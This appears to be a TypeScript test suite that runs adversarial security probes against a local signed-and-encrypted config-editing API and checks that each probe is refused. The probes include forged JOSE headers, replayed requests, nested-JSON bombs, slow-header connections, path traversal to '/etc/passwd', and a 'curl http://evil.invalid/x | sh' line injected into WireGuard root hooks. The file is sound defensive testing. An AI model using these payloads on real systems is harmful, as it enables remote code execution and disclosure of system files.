/**
 * Adversarial review of the sealed API: algorithm confusion, key-id games, claim edge cases, replay
 * across restarts, identical 401 bytes, JSON bombs, backup-folder symlinks and forwarded-address trust,
 * each against a real server on 127.0.0.1.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { KeyObject, randomBytes, sign as cryptoSign } from 'node:crypto';
import {
  chmodSync,
  existsSync,
  mkdirSync,
  symlinkSync,
  statSync,
  writeFileSync,
  readFileSync,
  readdirSync,
} from 'node:fs';
import { join } from 'node:path';
import { connect, type Socket } from 'node:net';
import { CompactEncrypt, CompactSign, base64url, type CryptoKey } from 'jose';
import { importPublic } from '../../src/sealed-api/keys.ts';
import { validateWireGuard } from '../../src/sealed-api/formats/wireguard.ts';
import { validateYaml } from '../../src/sealed-api/formats/structured.ts';
import { rawPost, tempDir, type StartedSealed, type TestClient, trackedStart, expect401 } from './helpers.ts';

const start = trackedStart();

const enc = new TextEncoder();

function reasonOf(s: StartedSealed, id: string): string {
  return String(s.lines.find((l) => l.requestId === id)?.reason);
}

interface Craft {
  readonly outer?: Record<string, unknown>;
  readonly inner?: Record<string, unknown>;
  readonly claims?: Record<string, unknown>;
  /** Signs with this key instead of the client's. */
  readonly signKey?: CryptoKey;
  /** Raw JWS text instead of signing claims. */
  readonly jws?: string;
  readonly b64False?: boolean;
}

/** Builds a request by hand so every header and claim can be chosen. */
async function craft(s: StartedSealed, c: TestClient, o: Craft = {}): Promise<string> {
  const info = s.server.serverInfo();
  const serverKey = await importPublic(info.jwk, 'ECDH-ES');
  const iat = Date.now() / 1000;
  const claims = {
    v: 1,
    aud: info.kid,
    iat,
    exp: iat + 60,
    jti: base64url.encode(randomBytes(16)),
    htm: 'POST',
    htu: new URL(s.server.url).pathname,
    act: 'ping',
    args: {},
    rk: base64url.encode(randomBytes(32)),
    ...o.claims,
  };
  let jws = o.jws;
  if (jws === undefined) {
    const payload = enc.encode(JSON.stringify(claims));
    jws = await new CompactSign(payload)
      .setProtectedHeader({
        alg: 'EdDSA',
        kid: c.kid,
        ...(o.b64False === true ? { b64: false, crit: ['b64'] } : {}),
        ...o.inner,
      })
      .sign(o.signKey ?? c.key);
  }
  return new CompactEncrypt(enc.encode(jws))
    .setProtectedHeader({ alg: 'ECDH-ES', enc: 'A256GCM', kid: info.kid, skid: c.kid, ...o.outer })
    .encrypt(serverKey);
}

test('review: a hand-built request is accepted (baseline for the probes below)', async () => {
  const s = await start();
  const c = await s.client('alice');
  const res = await rawPost(s.server.url, await craft(s, c));
  assert.equal(res.status, 200);
});

test('review: algorithm confusion and key-id games are refused with the same 401', async () => {
  const s = await start();
  const a = await s.client('alice');
  const b = await s.client('bob');
  const info = s.server.serverInfo();
  const hdr = (h: Record<string, unknown>) => base64url.encode(JSON.stringify(h));
  const bodies: [string, string][] = [
    ['alg none', `${hdr({ alg: 'none', enc: 'A256GCM', kid: info.kid, skid: a.kid })}.a.b.c.d`],
    ['alg dir', `${hdr({ alg: 'dir', enc: 'A256GCM', kid: info.kid, skid: a.kid })}..b.c.d`],
    ['HS256', `${hdr({ alg: 'HS256', kid: info.kid, skid: a.kid })}.a.b.c.d`],
    ['A128GCM', `${hdr({ alg: 'ECDH-ES', enc: 'A128GCM', kid: info.kid, skid: a.kid })}..b.c.d`],
    [
      'zip',
      await craft(s, a, { outer: { zip: 'DEF' } }).catch(
        () => `${hdr({ alg: 'ECDH-ES', enc: 'A256GCM', zip: 'DEF', kid: info.kid, skid: a.kid })}..b.c.d`,
      ),
    ],
    [
      'crit',
      `${hdr({ alg: 'ECDH-ES', enc: 'A256GCM', crit: ['x'], x: 1, kid: info.kid, skid: a.kid })}..b.c.d`,
    ],
    ['A signs, skid B', await craft(s, a, { outer: { skid: b.kid } })],
    ['signed by B, kid A', await craft(s, a, { signKey: b.key })],
    ['inner kid B, outer skid A, signed by A', await craft(s, a, { inner: { kid: b.kid } })],
    [
      'inner alg none',
      await craft(s, a, { jws: `${hdr({ alg: 'none', kid: a.kid })}.${base64url.encode('{}')}.` }),
    ],
    ['wrong aud (other key id)', await craft(s, a, { claims: { aud: a.kid } })],
    ['exp far in the future', await craft(s, a, { claims: { exp: Date.now() / 1000 + 86400 * 365 } })],
    ['huge iat/exp', await craft(s, a, { claims: { iat: 1e300, exp: 1e300 + 1 } })],
    ['string iat', await craft(s, a, { claims: { iat: String(Date.now() / 1000) } })],
    ['short jti', await craft(s, a, { claims: { jti: 'abc' } })],
    ['rk 31 bytes', await craft(s, a, { claims: { rk: base64url.encode(randomBytes(31)) } })],
    ['rk 33 bytes', await craft(s, a, { claims: { rk: base64url.encode(randomBytes(33)) } })],
    ['htu other path', await craft(s, a, { claims: { htu: '/other' } })],
    ['htm GET', await craft(s, a, { claims: { htm: 'GET' } })],
  ];
  for (const [why, body] of bodies) await expect401(s, body, why);
});

/** Signs a compact JWS by hand (jose refuses to build some of the forms probed here). */
function signRaw(header: Record<string, unknown>, payloadSegment: string, key: CryptoKey): string {
  const input = `${base64url.encode(JSON.stringify(header))}.${payloadSegment}`;
  const sig = cryptoSign(null, Buffer.from(input), KeyObject.from(key));
  return `${input}.${base64url.encode(sig)}`;
}

function claimsFor(s: StartedSealed, extra: Record<string, unknown> = {}): Record<string, unknown> {
  const info = s.server.serverInfo();
  // Whole seconds (no dot in the text), rounded up: not before the server started.
  const iat = Math.ceil(Date.now() / 1000);
  return {
    v: 1,
    aud: info.kid,
    iat,
    exp: iat + 60,
    jti: base64url.encode(randomBytes(16)),
    htm: 'POST',
    htu: '/v1/rpc',
    act: 'ping',
    args: {},
    rk: base64url.encode(randomBytes(32)),
    ...extra,
  };
}

test('review: the hand signer builds requests the server accepts (baseline)', async () => {
  const s = await start();
  const a = await s.client('alice');
  const jws = signRaw({ alg: 'EdDSA', kid: a.kid }, base64url.encode(JSON.stringify(claimsFor(s))), a.key);
  assert.equal((await rawPost(s.server.url, await craft(s, a, { jws }))).status, 200);
});

test('review: an inner JWS with an unencoded payload (b64:false, crit) is refused', async () => {
  const s = await start();
  const a = await s.client('alice');
  // RFC 7797: the payload segment is the raw claims text (no dots in it here: whole-second iat).
  const raw = JSON.stringify(claimsFor(s));
  assert.ok(!raw.includes('.'));
  const jws = signRaw({ alg: 'EdDSA', kid: a.kid, b64: false, crit: ['b64'] }, raw, a.key);
  const id = await expect401(s, await craft(s, a, { jws }), 'b64 false');
  assert.match(reasonOf(s, id), /crit\/b64/);
  const jws2 = signRaw(
    { alg: 'EdDSA', kid: a.kid, b64: true, crit: ['b64'] },
    base64url.encode(JSON.stringify(claimsFor(s))),
    a.key,
  );
  await expect401(s, await craft(s, a, { jws: jws2 }), 'b64 true in crit');
});

test('review: duplicate keys in the claims: the last one counts, as in every JSON.parse', async () => {
  const s = await start();
  const a = await s.client('alice');
  const info = s.server.serverInfo();
  const iat = Date.now() / 1000;
  const text = `{"v":1,"aud":"${info.kid}","iat":${iat},"exp":${iat + 60},"jti":"${base64url.encode(randomBytes(16))}","htm":"POST","htu":"/v1/rpc","act":"files.read","act":"ping","args":{},"rk":"${base64url.encode(randomBytes(32))}"}`;
  const jws = await new CompactSign(enc.encode(text))
    .setProtectedHeader({ alg: 'EdDSA', kid: a.kid })
    .sign(a.key);
  const res = await rawPost(s.server.url, await craft(s, a, { jws }));
  assert.equal(res.status, 200);
});

test('review: the same jti from two clients is two requests; from one client twice is a replay', async () => {
  const s = await start();
  const a = await s.client('alice');
  const b = await s.client('bob');
  const jti = base64url.encode(randomBytes(16));
  assert.equal((await rawPost(s.server.url, await craft(s, a, { claims: { jti } }))).status, 200);
  assert.equal((await rawPost(s.server.url, await craft(s, b, { claims: { jti } }))).status, 200);
  await expect401(s, await craft(s, a, { claims: { jti } }), 'same jti, same client, new envelope');
});

test('review: replay after a restart of a request whose iat was ahead of the server clock (within the skew)', async () => {
  const dir = tempDir();
  const s1 = await start({}, { dir });
  const a = await s1.client('alice');
  // The client's clock runs 10 s ahead (allowed: skew 30 s); the server accepts the request.
  const iat = Date.now() / 1000 + 10;
  const body = await craft(s1, a, { claims: { iat, exp: iat + 60 } });
  assert.equal((await rawPost(s1.server.url, body)).status, 200);
  await s1.close();
  const horizonFile = join(dir, 'state', 'replay-horizon');
  const mark = Number(readFileSync(horizonFile, 'utf8'));
  assert.ok(mark >= iat * 1000 && mark <= iat * 1000 + 10000, String(mark));
  assert.equal(statSync(horizonFile).mode & 0o777, 0o600);
  const s2 = await start({}, { dir });
  const id = await expect401(s2, body, 'captured request replayed after the restart');
  assert.match(reasonOf(s2, id), /before the server started/);
  // Requests dated after the mark are served again (at the latest skew + 10 s after the restart).
  const after = mark / 1000 + 0.5;
  assert.equal(
    (await rawPost(s2.server.url, await craft(s2, a, { claims: { iat: after, exp: after + 60 } }))).status,
    200,
  );
});

test('review: requests dated at or behind the server clock write no replay horizon', async () => {
  const s = await start();
  const a = await s.client('alice');
  const iat = Date.now() / 1000;
  assert.equal(
    (await rawPost(s.server.url, await craft(s, a, { claims: { iat, exp: iat + 60 } }))).status,
    200,
  );
  assert.equal(existsSync(join(s.dir, 'state', 'replay-horizon')), false);
});

test('review: every 401 has identical bytes and headers apart from the request id and date', async () => {
  const s = await start();
  const a = await s.client('alice');
  const info = s.server.serverInfo();
  const hdr = (h: Record<string, unknown>) => base64url.encode(JSON.stringify(h));
  const ok = await craft(s, a);
  assert.equal((await rawPost(s.server.url, ok)).status, 200);
  const bodies = [
    `${hdr({ alg: 'ECDH-ES', enc: 'A256GCM', kid: info.kid, skid: 'nobody' })}..b.c.d`,
    await craft(s, a, { claims: { aud: 'x' } }),
    ok,
  ];
  const seen = new Set<string>();
  for (const b of bodies) {
    const res = await rawPost(s.server.url, b);
    const h = [...res.headers].filter(([k]) => k !== 'date' && k !== 'x-request-id');
    seen.add(JSON.stringify([res.status, res.body, h]));
  }
  assert.equal(seen.size, 1, [...seen].join('\n'));
});

test('review: deeply nested args do not crash the server (sealed error, then the next call works)', async () => {
  const dir = tempDir();
  mkdirSync(join(dir, 'etc'));
  writeFileSync(join(dir, 'etc', 'app.json'), '{"a":1}\n');
  writeFileSync(join(dir, 'etc', 'app.toml'), 'a = 1\n');
  const s = await start(
    {
      limits: { maxBodyBytes: 4 * 1048576 },
      files: {
        app: { path: 'etc/app.json', format: 'json' },
        tapp: { path: 'etc/app.toml', format: 'toml' },
      },
    },
    { dir },
  );
  const a = await s.client('alice');
  const info = s.server.serverInfo();
  // Built as text: JSON.stringify of the nested value itself would overflow the stack here.
  const nested = `${'['.repeat(300000)}1${']'.repeat(300000)}`;
  for (const file of ['app', 'tapp']) {
    const { etag } = await a.call<{ etag: string }>('files.read', { file });
    const iat = Date.now() / 1000;
    const ops = `[{"op":"set","path":["b"],"value":${nested}}]`;
    const text = `{"v":1,"aud":"${info.kid}","iat":${iat},"exp":${iat + 60},"jti":"${base64url.encode(randomBytes(16))}","htm":"POST","htu":"/v1/rpc","act":"files.update","args":{"file":"${file}","ops":${ops},"if_match":${JSON.stringify(etag)}},"rk":"${base64url.encode(randomBytes(32))}"}`;
    const jws = await new CompactSign(enc.encode(text))
      .setProtectedHeader({ alg: 'EdDSA', kid: a.kid })
      .sign(a.key);
    const res = await rawPost(s.server.url, await craft(s, a, { jws }));
    assert.ok(res.status >= 400 && res.status < 600, `${file}: ${res.status}`);
  }
  assert.equal(readFileSync(join(dir, 'etc', 'app.json'), 'utf8'), '{"a":1}\n');
  assert.deepEqual(await a.call('ping'), { pong: true });
});

test('review: X-Forwarded-For is ignored without trusted hops (spoofing it does not escape the 429)', async () => {
  const s = await start({ limits: { maxAuthFailuresPerIp: 2 } });
  for (let i = 0; i < 3; i++) await rawPost(s.server.url, 'a.b.c.d.e', { 'x-forwarded-for': `10.0.0.${i}` });
  const junk = `${base64url.encode('{"alg":"ECDH-ES","enc":"A256GCM","kid":"k","skid":"s"}')}..b.c.d`;
  for (let i = 0; i < 2; i++) await rawPost(s.server.url, junk, { 'x-forwarded-for': `10.0.1.${i}` });
  const res = await rawPost(s.server.url, junk, { 'x-forwarded-for': '10.0.2.1' });
  assert.equal(res.status, 429);
});

test('review: files.restore refuses a backup that is a symlink (e.g. to a secret outside)', async () => {
  const dir = tempDir();
  mkdirSync(join(dir, 'etc'));
  writeFileSync(join(dir, 'etc', 'app.json'), '{"a":1}\n');
  writeFileSync(join(dir, 'secret.json'), '{"secret":"s3cr3t"}\n');
  const s = await start({ files: { app: { path: 'etc/app.json', format: 'json' } } }, { dir });
  const a = await s.client('alice', { allow: ['files.*'], files: ['app'] });
  const backups = join(dir, 'state', 'backups', 'app');
  mkdirSync(backups, { recursive: true, mode: 0o700 });
  const id = '20260101T000000000Z-000001';
  symlinkSync(join(dir, 'secret.json'), join(backups, `${id}.bak`));
  const cur = await a.call<{ etag: string }>('files.read', { file: 'app' });
  await assert.rejects(a.call('files.restore', { file: 'app', backup: id, if_match: cur.etag }));
  assert.equal(readFileSync(join(dir, 'etc', 'app.json'), 'utf8'), '{"a":1}\n');
  const list = await a.call<{ id: string }[]>('files.backups', { file: 'app' });
  assert.deepEqual(
    list.map((b) => b.id),
    [],
  );
});

test('review: a backup folder replaced by a symlink is neither written nor read through', async () => {
  const dir = tempDir();
  mkdirSync(join(dir, 'etc'));
  mkdirSync(join(dir, 'elsewhere'));
  writeFileSync(join(dir, 'etc', 'app.json'), '{"a":1}\n');
  const s = await start({ files: { app: { path: 'etc/app.json', format: 'json' } } }, { dir });
  const a = await s.client('alice', { allow: ['files.*'], files: ['app'] });
  const backups = join(dir, 'state', 'backups');
  mkdirSync(backups, { recursive: true, mode: 0o700 });
  symlinkSync(join(dir, 'elsewhere'), join(backups, 'app'));
  const cur = await a.call<{ etag: string }>('files.read', { file: 'app' });
  await assert.rejects(
    a.call('files.write', { file: 'app', content: '{"a":2}\n', if_match: cur.etag }),
    (e: unknown) => (e as { status?: number }).status === 500,
  );
  assert.deepEqual(readdirSync(join(dir, 'elsewhere')), []);
  assert.equal(readFileSync(join(dir, 'etc', 'app.json'), 'utf8'), '{"a":1}\n', 'nothing written');
  writeFileSync(join(dir, 'elsewhere', '20260101T000000000Z-000001.bak'), '{"planted":1}\n');
  assert.deepEqual(await a.call('files.backups', { file: 'app' }), []);
});

test('review: refused content is not quoted in the log (JSON.parse echoes its input)', async () => {
  const dir = tempDir();
  mkdirSync(join(dir, 'etc'));
  writeFileSync(join(dir, 'etc', 'app.json'), '{"a":1}\n');
  const s = await start({ files: { app: { path: 'etc/app.json', format: 'json' } } }, { dir });
  const a = await s.client('alice', { allow: ['files.*'], files: ['app'] });
  const cur = await a.call<{ etag: string }>('files.read', { file: 'app' });
  await assert.rejects(
    a.call('files.write', { file: 'app', content: '{"token": SECRET-TOKEN-123}', if_match: cur.etag }),
    (e: unknown) => (e as { code?: string }).code === 'SEALED_INVALID_CONTENT',
  );
  const text = JSON.stringify(s.lines);
  assert.ok(text.includes('SEALED_INVALID_CONTENT'));
  assert.ok(!text.includes('SECRET-TOK'), 'content quoted in the log');
  // Other refusals keep their reason in the log.
  await assert.rejects(a.call('files.write', { file: 'app', content: '{}', if_match: '"stale"' }));
  const line = s.lines.find((l) => l.code === 'SEALED_ETAG_MISMATCH');
  assert.match(String(line?.detail), /changed/);
});

/** Resolves with the ms until the server closes `sock` (or `capMs` if it does not). */
function closedWithin(sock: Socket, capMs: number): Promise<number> {
  const t0 = Date.now();
  return new Promise((done) => {
    const cap = setTimeout(() => {
      sock.destroy();
      done(capMs);
    }, capMs);
    sock.on('error', () => undefined);
    sock.once('close', () => {
      clearTimeout(cap);
      done(Date.now() - t0);
    });
  });
}

test('review: a client dribbling header bytes is cut off near timeouts.headersMs, not after 30 s', async () => {
  const s = await start({ timeouts: { headersMs: 500 } });
  const sock = connect(s.server.port, '127.0.0.1');
  await new Promise((r) => sock.once('connect', r));
  sock.write('POST /v1/rpc HTTP/1.1\r\nHost: x\r\n');
  const drip = setInterval(() => sock.write('X-A: b\r\n'), 100);
  const ms = await closedWithin(sock, 20000);
  clearInterval(drip);
  assert.ok(ms < 10000, `closed after ${ms} ms`);
});

test('review: connections past limits.maxConnections are closed; the ones within stay', async () => {
  const s = await start({ limits: { maxConnections: 3 } });
  const held: Socket[] = [];
  for (let i = 0; i < 3; i++) {
    const c = connect(s.server.port, '127.0.0.1');
    c.on('error', () => undefined);
    await new Promise((r) => c.once('connect', r));
    held.push(c);
  }
  await new Promise((r) => setTimeout(r, 100));
  const extra = connect(s.server.port, '127.0.0.1');
  assert.ok((await closedWithin(extra, 5000)) < 5000, 'the fourth connection is closed');
  for (const c of held) assert.equal(c.destroyed, false);
  for (const c of held) c.destroy();
  await new Promise((r) => setTimeout(r, 200));
  const a = await s.client('alice');
  assert.deepEqual(await a.call('ping'), { pong: true }, 'slots are freed');
  assert.ok(s.lines.some((l) => l.code === 'SEALED_LIMIT_CONNECTIONS'));
});

test('review: when the replay horizon cannot be written, a request dated ahead is refused (sealed 503) and does not run', async () => {
  const dir = tempDir();
  mkdirSync(join(dir, 'etc'));
  writeFileSync(join(dir, 'etc', 'app.json'), '{"a":1}\n');
  // A directory where the mark file should be: the atomic rename over it fails.
  mkdirSync(join(dir, 'state', 'replay-horizon'), { recursive: true });
  const s = await start({ files: { app: { path: 'etc/app.json', format: 'json' } } }, { dir });
  const a = await s.client('alice');
  const { etag } = await a.call<{ etag: string }>('files.read', { file: 'app' });
  const iat = Date.now() / 1000 + 10;
  const res = await rawPost(
    s.server.url,
    await craft(s, a, {
      claims: {
        iat,
        exp: iat + 60,
        act: 'files.write',
        args: { file: 'app', content: '{}\n', if_match: etag },
      },
    }),
  );
  assert.equal(res.status, 503);
  assert.equal(res.headers.get('content-type'), 'application/jose');
  assert.equal(readFileSync(join(dir, 'etc', 'app.json'), 'utf8'), '{"a":1}\n');
  assert.deepEqual(await a.call('ping'), { pong: true }, 'requests dated at the server clock still work');
});

test('review: a registry file writable by group or others is not loaded (the previous registry stays)', async () => {
  const s = await start();
  const a = await s.client('alice');
  assert.deepEqual(await a.call('ping'), { pong: true });
  const file = s.server.registryFile;
  const text = readFileSync(file, 'utf8');
  // Anyone could now have emptied it (or added a key); it is refused until fixed.
  chmodSync(file, 0o666);
  writeFileSync(file, text.replace(/"clients": \[[\s\S]*\]/, '"clients": []'));
  await s.server.reload();
  assert.deepEqual(await a.call('ping'), { pong: true }, 'previous registry still in force');
  assert.ok(
    s.lines.some((l) => /let others write it/.test(String(l.err && (l.err as { message?: string }).message))),
  );
  chmodSync(file, 0o600);
  await s.server.reload();
  await assert.rejects(a.call('ping'), (e: unknown) => (e as { status?: number }).status === 401);
});

test('review: an INI line of a million spaces is refused in linear time (no regex backtracking)', async () => {
  const dir = tempDir();
  mkdirSync(join(dir, 'etc'));
  writeFileSync(join(dir, 'etc', 'app.ini'), '[a]\nb = 1\n');
  const s = await start(
    { limits: { maxBodyBytes: 4 * 1048576 }, files: { app: { path: 'etc/app.ini', format: 'ini' } } },
    { dir },
  );
  // Before the fix this took minutes of event-loop time (quadratic); the client gives up after 20 s.
  const a = await s.client('alice', { extra: { timeoutMs: 20000 } });
  const { etag } = await a.call<{ etag: string }>('files.read', { file: 'app' });
  const content = `[a]\nb = 1\nx${' '.repeat(1000000)}y\n`;
  await assert.rejects(a.call('files.write', { file: 'app', content, if_match: etag }), (e: unknown) => {
    assert.equal((e as { code?: string }).code, 'SEALED_INVALID_CONTENT', String(e));
    return true;
  });
  // The same line as a value of an edited key: set keeps the text before the separator.
  const long = `[a]\nb${' '.repeat(100000)}= 1\n`;
  writeFileSync(join(dir, 'etc', 'app.ini'), long);
  const cur = await a.call<{ etag: string }>('files.read', { file: 'app' });
  await a.call('files.update', {
    file: 'app',
    ops: [{ op: 'set', section: 'a', key: 'b', value: '2' }],
    if_match: cur.etag,
  });
  assert.equal(readFileSync(join(dir, 'etc', 'app.ini'), 'utf8'), `[a]\nb${' '.repeat(100000)}= 2\n`);
});

test('review: allow-lists hold for every files action (backups and restore too) and for modules', async () => {
  const dir = tempDir();
  mkdirSync(join(dir, 'etc'));
  writeFileSync(join(dir, 'etc', 'a.json'), '{}\n');
  writeFileSync(join(dir, 'etc', 'b.json'), '{}\n');
  const s = await start(
    {
      files: {
        a: { path: 'etc/a.json', format: 'json' },
        b: { path: 'etc/b.json', format: 'json' },
      },
    },
    { dir },
  );
  const c = await s.client('carol', { allow: ['files.*', 'ping'], files: ['a'] });
  const forbidden = (e: unknown) => (e as { status?: number; code?: string }).code === 'SEALED_FORBIDDEN';
  const etag = '"absent"';
  await assert.rejects(c.call('files.read', { file: 'b' }), forbidden);
  await assert.rejects(c.call('files.backups', { file: 'b' }), forbidden);
  await assert.rejects(
    c.call('files.restore', { file: 'b', backup: '20260101T000000000Z-000001', if_match: etag }),
    forbidden,
  );
  await assert.rejects(c.call('files.update', { file: 'b', ops: [], if_match: etag }), forbidden);
  await assert.rejects(c.call('time'), forbidden);
  for (const file of ['../b', 'etc/b.json', '/etc/passwd'])
    await assert.rejects(c.call('files.read', { file }), forbidden);
  const d = await s.client('dave', { allow: ['files.*'], files: ['*'] });
  const unknownFile = (e: unknown) => (e as { code?: string }).code === 'SEALED_UNKNOWN_FILE';
  for (const file of ['../a', 'etc/a.json', join(dir, 'etc', 'a.json')])
    await assert.rejects(d.call('files.read', { file }), unknownFile);
  const cur = await d.call<{ etag: string }>('files.read', { file: 'a' });
  for (const backup of ['../../../etc/passwd', '20260101T000000000Z-000001/../x', '.bak'])
    await assert.rejects(
      d.call('files.restore', { file: 'a', backup, if_match: cur.etag }),
      (e: unknown) => (e as { code?: string }).code === 'SEALED_UNKNOWN_BACKUP',
    );
});

test('review: WireGuard hook lines (commands wg-quick runs as root) change only with allowHooks', async () => {
  const dir = tempDir();
  mkdirSync(join(dir, 'etc'));
  const k = (n: number) => Buffer.alloc(32, n).toString('base64');
  const base = `[Interface]\nPrivateKey = ${k(1)}\nAddress = 10.0.0.1/24\nPostUp = iptables -A FORWARD -i %i -j ACCEPT\n\n[Peer]\nPublicKey = ${k(2)}\nAllowedIPs = 10.0.0.2/32\n`;
  writeFileSync(join(dir, 'etc', 'wg0.conf'), base);
  writeFileSync(join(dir, 'etc', 'wg1.conf'), base);
  const s = await start(
    {
      files: {
        wg0: { path: 'etc/wg0.conf', format: 'wireguard' },
        wg1: { path: 'etc/wg1.conf', format: 'wireguard', allowHooks: true },
      },
    },
    { dir },
  );
  const c = await s.client('carol', { allow: ['files.*'], files: ['wg0', 'wg1'] });
  const forbidden = (e: unknown) => (e as { code?: string }).code === 'SEALED_FORBIDDEN';
  const evil = 'curl http://evil.invalid/x | sh';
  const r = await c.call<{ etag: string }>('files.read', { file: 'wg0' });
  await assert.rejects(
    c.call('files.update', {
      file: 'wg0',
      if_match: r.etag,
      ops: [{ op: 'interface.set', set: { PostUp: evil } }],
    }),
    forbidden,
  );
  await assert.rejects(
    c.call('files.update', {
      file: 'wg0',
      if_match: r.etag,
      ops: [{ op: 'interface.set', set: { PreDown: evil } }],
    }),
    forbidden,
  );
  await assert.rejects(
    c.call('files.write', {
      file: 'wg0',
      if_match: r.etag,
      content: base.replace('-j ACCEPT', `-j ACCEPT; ${evil}`),
    }),
    forbidden,
  );
  await assert.rejects(
    c.call('files.write', { file: 'wg0', if_match: r.etag, content: base.replace(/PostUp.*\n/, '') }),
    forbidden,
  );
  // SaveConfig = true would let wg-quick overwrite the file on shutdown, past our checks and backups.
  await assert.rejects(
    c.call('files.update', { file: 'wg0', if_match: r.etag, ops: [{ op: 'interface.set', set: { SaveConfig: 'true' } }] }),
    forbidden,
  );
  assert.equal(readFileSync(join(dir, 'etc', 'wg0.conf'), 'utf8'), base);
  // Everything else still works, and the same hooks in another spelling are no change.
  const w = await c.call<{ etag: string }>('files.write', {
    file: 'wg0',
    if_match: r.etag,
    content: base.replace('PostUp = ', 'postup=').replace(/\n/g, '\r\n'),
  });
  await c.call('files.update', {
    file: 'wg0',
    if_match: w.etag,
    ops: [{ op: 'peer.upsert', publicKey: k(3), set: { AllowedIPs: '10.0.0.3/32' } }],
  });
  const r1 = await c.call<{ etag: string }>('files.read', { file: 'wg1' });
  await c.call('files.update', {
    file: 'wg1',
    if_match: r1.etag,
    ops: [{ op: 'interface.set', set: { PostUp: 'logger up' } }],
  });
  assert.match(readFileSync(join(dir, 'etc', 'wg1.conf'), 'utf8'), /PostUp = logger up/);
});

test('review: AllowedIPs claimed twice in another spelling (bare, host bits, IPv6 forms) is refused', () => {
  const k = (n: number) => Buffer.alloc(32, n).toString('base64');
  const file = (a: string, b: string) =>
    `[Interface]\nPrivateKey = ${k(1)}\n\n[Peer]\nPublicKey = ${k(2)}\nAllowedIPs = ${a}\n\n[Peer]\nPublicKey = ${k(3)}\nAllowedIPs = ${b}\n`;
  const same: [string, string][] = [
    ['10.0.0.2/32', '10.0.0.2'],
    ['10.0.0.0/24', '10.0.0.9/24'],
    ['fd00::2/128', 'FD00:0:0::2'],
    ['fd00::/64', 'fd00:0:0:0:1::/64'],
    ['::ffff:10.0.0.2/128', '::ffff:a00:2'],
    ['0.0.0.0/0', '10.1.2.3/0'],
  ];
  for (const [a, b] of same)
    assert.throws(() => validateWireGuard(file(a, b)), /claimed by two peers/, `${a} vs ${b}`);
  const different: [string, string][] = [
    ['10.0.0.2/32', '10.0.0.3/32'],
    ['10.0.0.0/24', '10.0.0.0/25'],
    ['fd00::2', 'fd00::3'],
    ['0.0.0.0/0', '::/0'],
  ];
  for (const [a, b] of different) validateWireGuard(file(a, b));
});

test('review: YAML duplicate keys are still refused, in linear time (the library check is quadratic)', () => {
  for (const t of ['a: 1\na: 2\n', 'a:\n  b: 1\n  b: 2\n', '- {x: 1, x: 2}\n', 'k: [{a: 1}, {a: 2, a: 3}]\n'])
    assert.throws(() => validateYaml(t), /duplicate key/, t);
  for (const t of ['a: 1\n"1": 2\n1: 3\n', 'a: &x 1\nb: *x\n', 'a: {b: 1}\nc: {b: 2}\n']) validateYaml(t);
  // 120 000 keys (~1.2 MB): the library's own check needed about a minute of event loop for this.
  const big = Array.from({ length: 120000 }, (_, i) => `k${i}: 1`).join('\n');
  const t0 = Date.now();
  validateYaml(big);
  assert.ok(Date.now() - t0 < 15000, `took ${Date.now() - t0} ms`);
  assert.throws(() => validateYaml(`${big}\nk7: 2\n`), /duplicate key k7/);
});
